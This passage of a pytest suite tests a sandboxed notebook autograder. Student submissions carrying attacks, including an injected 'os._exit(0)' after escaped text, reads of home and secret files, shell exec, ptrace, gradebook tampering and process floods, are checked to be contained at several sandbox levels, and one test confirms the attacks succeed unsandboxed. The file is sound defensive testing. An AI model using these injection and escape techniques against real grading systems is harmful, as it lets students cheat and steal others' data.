            exits = with_answers(lean(solved), dict.fromkeys(TASKS, ESCAPED + "os._exit(0)"))
            hand_in(world.submitted / "os._exit after a good one" / SLUG, raw(exits))
            hand_in(world.submitted / "unreadable after a good one" / SLUG, b"{")
            (world.submitted / "gone after a good one" / SLUG / f"{SLUG}.ipynb").unlink()

            course = [world.out / name for name in ("source", "release", "nbgrader_config.py")]
            places = [world.submitted, world.home, world.loot, world.secret, *course]
            before = hashes(*places)
            processes = descendants()  # the listener's, and the programs that start kernels
            statuses.append(main([*command, "--fresh"]))
            after = hashes(*places)
            yield Run(world, attacks, statuses, seconds, before, after, listeners.reached(), canary.poll(),
                      descendants() - processes)
        finally:
            adopt_orphans(False)
            canary.kill()
            canary.wait()
            listeners.close()


def total(out: Path, student: str) -> float:
    return sum(float(row["score"]) for row in rows_of(out, student).values())


def gradebook_scores(out: Path) -> dict[str, dict[str, float]]:
    """Scores in nbgrader's gradebook, by its name of the student and by task."""
    found: dict[str, dict[str, float]] = {}
    with Gradebook(f"sqlite:///{out / 'gradebook.db'}", "neural-notes") as gradebook:
        for submission in gradebook.assignment_submissions(SLUG):
            (notebook,) = submission.notebooks
            found[submission.student.id] = {g.name: g.score for g in notebook.grades if g.name in TASKS}
    return found


RESUBMITTED = {"os._exit after a good one": "error", "unreadable after a good one": "unreadable",
               "gone after a good one": "missing"}
FORGEABLE = {"patched kernel, hidden writes": "only the student's own process can see that an argument was written to"}


def test_the_run_goes_on_and_everybody_has_a_row_per_task(run):
    assert run.statuses == [0, 0]
    expected = {"zzz", *run.attacks, *RESUBMITTED}
    assert {row["student"] for row in read_rows(run.world.out)} == expected
    for name in expected:
        rows_of(run.world.out, name)


@pytest.mark.parametrize("name", [
    pytest.param(name, marks=pytest.mark.xfail(reason=FORGEABLE[name], strict=True)) if name in FORGEABLE else name
    for name in ATTACKS
])
def test_points(run, name):
    if name not in run.attacks:
        pytest.skip(no_sandbox())
    rows = rows_of(run.world.out, name)
    scores = {task: float(row["score"]) for task, row in rows.items()}
    expected = full_but(**ATTACKS[name].scores)
    if ATTACKS[name].at_most:
        scores = {task: max(score, expected[task]) for task, score in scores.items()}
    assert scores == expected, said(run, name)
    if ATTACKS[name].verdict:
        assert rows[FIRST]["verdict"] == ATTACKS[name].verdict, rows[FIRST]


def said(run: Run, name: str) -> str:
    """What the grader and the attack said, for the message of a test."""
    notebook = run.world.out / "autograded" / name / SLUG / f"{SLUG}.ipynb"
    outputs = [out.get("text", "")[:500] for cell in nbformat.read(notebook, as_version=4).cells
               for out in cell.get("outputs", []) if "solution" in cell.id]
    return "; ".join(row["diagnosis"] for row in rows_of(run.world.out, name).values()) + "".join(outputs)


@pytest.mark.parametrize("name", RESUBMITTED)
def test_a_resubmission_that_fails_leaves_no_old_mark(run, name):
    assert total(run.world.out, name) == 0
    assert set(gradebook_scores(run.world.out)[name].values()) == {0}
    assert {row["verdict"] for row in rows_of(run.world.out, name).values()} == {RESUBMITTED[name]}


def test_the_honest_student_has_full_marks(run):
    assert total(run.world.out, "zzz") == TOTAL
    assert sum(gradebook_scores(run.world.out)["zzz"].values()) == TOTAL


def test_no_file_of_others_is_touched(run):
    assert {path for path in run.before | run.after if run.before.get(path) != run.after.get(path)} == set()
    assert list(run.world.loot.iterdir()) == []


def test_the_gradebook_is_what_the_grader_wrote(run):
    with sqlite3.connect(run.world.out / "gradebook.db") as connection:
        assert connection.execute("select name from sqlite_master where type = 'trigger'").fetchall() == []
        assert connection.execute("pragma integrity_check").fetchall() == [("ok",)]
        assert connection.execute("select count(*) from grade where manual_score is not null").fetchone() == (0,)
    scores = gradebook_scores(run.world.out)
    for name in ("zzz", *run.attacks):
        rows = {task: float(row["score"]) for task, row in rows_of(run.world.out, name).items()}
        assert scores[name] == rows, name


def test_no_process_is_left_and_none_of_ours_is_gone(run):
    left = {pid: Path(f"/proc/{pid}/cmdline").read_bytes() for pid in run.left if Path(f"/proc/{pid}").exists()}
    assert left == {}
    assert run.canary is None
    assert run.world.remains() == []


def test_nothing_is_sent(run):
    assert run.reached == []


def test_nobody_waits_for_an_attack(run):
    slow = {name: seconds for name, seconds in run.seconds.items() if seconds > ATTACK_SECONDS}
    assert slow == {}
    refused = {row["student"] for row in read_rows(run.world.out) if row["verdict"] == "unreadable"}
    assert set(run.attacks) - set(run.seconds) <= refused | {"zero cells"}


def test_no_text_of_others_is_in_what_an_attack_gets_back(run):
    for path in run.world.out.rglob("*"):
        if path.is_file() and "zzz" not in path.parts and not any(name in path.parts for name in RESUBMITTED):
            data = path.read_bytes()
            if path.parent.name == "results" and f"{MARK} of zzz".encode() in data:
                continue
            for what in ("home", "secret", "token", "of zzz"):
                assert f"{MARK} {what}".encode() not in data, path


def test_files_beside_the_notebook_go_no_further(run):
    for step in ("submitted", "autograded"):
        for name in run.attacks:
            found = {path.name for path in (run.world.out / step / name / SLUG).iterdir()}
            assert found <= {f"{SLUG}.ipynb", "timestamp.txt"}, (step, name)
            assert not any(path.is_symlink() for path in (run.world.out / step / name / SLUG).iterdir())


def test_what_is_written_can_be_shown_in_a_terminal(run):
    text = (run.world.out / "scores.csv").read_text(encoding="utf-8")
    assert re.findall(r"[\x00-\x08\x0b-\x1f\x7f\x9b]", text.replace("\r\n", "\n")) == []


# --------------------------------------------------------------------------------------------- at each level of sandbox

STARTS = {  # what starts well inside, and is to do harm outside
    "gradebook, write later", "gradebook, lock", "background process", "30 children", "20 files of 10 MB",
    "a folder a thousand deep", "a folder that cannot be entered", "its own folder as a symlink",
}


@pytest.fixture
def outside(tmp_path, monkeypatch, solved):
    """A world without a class: (world, listeners, canary process)."""
    world = World(tmp_path / "world")
    prepare(world, monkeypatch)
    with_short_deadlines(monkeypatch)
    for place in (world.out / "results", world.out / "source" / SLUG, world.submitted / "zzz" / SLUG):
        place.mkdir(parents=True)
    (world.out / "results" / "key.json").write_text("{}")
    (world.out / "nbgrader_config.py").write_text("# canary")
    nbformat.write(solved, world.out / "source" / SLUG / f"{SLUG}.ipynb")
    (world.submitted / "zzz" / SLUG / f"{SLUG}.ipynb").write_text(f"{MARK} of zzz")
    with sqlite3.connect(world.out / "gradebook.db") as connection:
        connection.execute("create table grade (manual_score, auto_score)")
        connection.execute("insert into grade values (null, 1)")
    connection.close()
    listeners = Listeners(world.folder)
    canary = subprocess.Popen(["sleep", "300"], stdin=subprocess.DEVNULL)
    world.canary, world.ports = canary.pid, listeners.ports
    adopt_orphans(True)
    yield world, listeners, canary
    adopt_orphans(False)
    canary.kill()
    canary.wait()
    listeners.close()


def machine_notebook(solved, world: World, names: list[str]):
    """One notebook with each attack in a cell of its own: own-1, own-2, ...; an answer needs them all."""
    needs = "".join(f"    needed_{number}\n" for number in range(1, len(names) + 1))
    notebook = lean(with_answers(solved, {FIRST: f"def _():\n{needs}{RIGHT}"}))
    for number, name in enumerate(names, 1):
        cell = nbformat.v4.new_code_cell(f"needed_{number} = 1\n" + guarded(placed(MACHINE[name], world)))
        cell.id = f"own-{number}"
        notebook.cells.insert(2 + number, cell)
    return notebook


@pytest.mark.parametrize("phase", ["judge", "read"])
@pytest.mark.parametrize("level", ["namespaces", "bubblewrap", "landlock"])
def test_every_level_stops_the_attacks_on_the_machine(level, phase, outside, solved):
    try:
        sandbox.at(level)
    except sandbox.NoSandbox as error:
        pytest.skip(str(error))
    world, listeners, canary = outside
    judge.judge_notebook(SLUG, lean(solved), 0, level=level)  # the zygote is there
    if phase == "read":
        judge.read_through(SLUG, lean(solved), level=level)
    places = [world.submitted, world.home, world.loot, world.secret, world.out]
    before, processes = hashes(*places), descendants()
    names = list(MACHINE)
    notebook = machine_notebook(solved, world, names)
    if phase == "judge":
        judged = judge.judge_notebook(SLUG, notebook, 0, level=level)
        assert {key: result["score"] for key, result in judged["results"].items()} == full_but()
        printed = {name: judged["cells"][f"own-{number}"] for number, name in enumerate(names, 1)}
    else:
        printed = judge.read_through(SLUG, notebook, level=level)
        printed = {name: printed.get(f"own-{number}", []) for number, name in enumerate(names, 1)}
    reached = {name: text for name, text in printed.items() if "REACHED" in str(text)}
    assert {name: text for name, text in reached.items() if name not in STARTS} == {}
    time.sleep(2.5)  # what comes late
    after = hashes(*places)
    assert {path for path in before | after if before.get(path) != after.get(path)} == set()
    assert (descendants() - processes, canary.poll(), listeners.reached()) == (set(), None, [])
    assert world.remains() == []
    assert f"{MARK} " not in str(printed)


# where nothing stops them, these would last, or would end what the others need
NOT_LET_LOOSE = {"files that stay", "shared memory that stays", "exec of a shell", "another's notebook, deleted"}
NO_PRIVILEGE = {"limits undone", "new namespaces and mounts", "ptrace of our process"}  # depends on who runs the tests


def test_the_attacks_succeed_where_nothing_stops_them(outside, solved):
    """Else the tests above could not fail."""
    world, listeners, canary = outside
    names = [name for name in MACHINE if name not in NOT_LET_LOOSE]
    judged = judge.judge_notebook(SLUG, machine_notebook(solved, world, names), 0, level="none")
    printed = {name: judged["cells"][f"own-{number}"]["printed"] for number, name in enumerate(names, 1)}
    stopped = {name: text for name, text in printed.items() if "REACHED" not in text and name not in NO_PRIVILEGE}
    assert stopped == {}
    assert set(listeners.reached()) == set(listeners.sockets)
    assert canary.wait(timeout=5) == -9
    assert f"{MARK} home" in printed["home, read"] and f"{MARK} secret" in printed["secret, read"]
    assert {path.name for path in world.loot.iterdir()} >= {"shell", "tool"}


# -------------------------------------------------------------------------------------------------- time


HOLD_UP = {
    "calls that take a little less than they may": "for _ in range(1_200_000): pass",
    "values that take long to read": "return [{str(i): i for i in range(40_000)}]",
}


@pytest.mark.parametrize("name", HOLD_UP)
def test_a_notebook_holds_up_the_class_for_no_longer_than_is_said(name, solved, monkeypatch):
    """There are 240 calls: where each may take 10 s, functions that take 9 s would hold up the class for 36 minutes."""
    with_short_deadlines(monkeypatch)
    monkeypatch.setattr(judge, "NOTEBOOK_SECONDS", 1.0)
    monkeypatch.setattr(judge, "CALLS_SECONDS", 1.0)
    every = {task: returning("-1", HOLD_UP[name], task) for task in list(TASKS)[: 3 if "values" in name else None]}
    start = time.monotonic()
    judge.judge_notebook(SLUG, with_answers(lean(solved), every), 0, level="none")
    assert time.monotonic() - start < 3.0
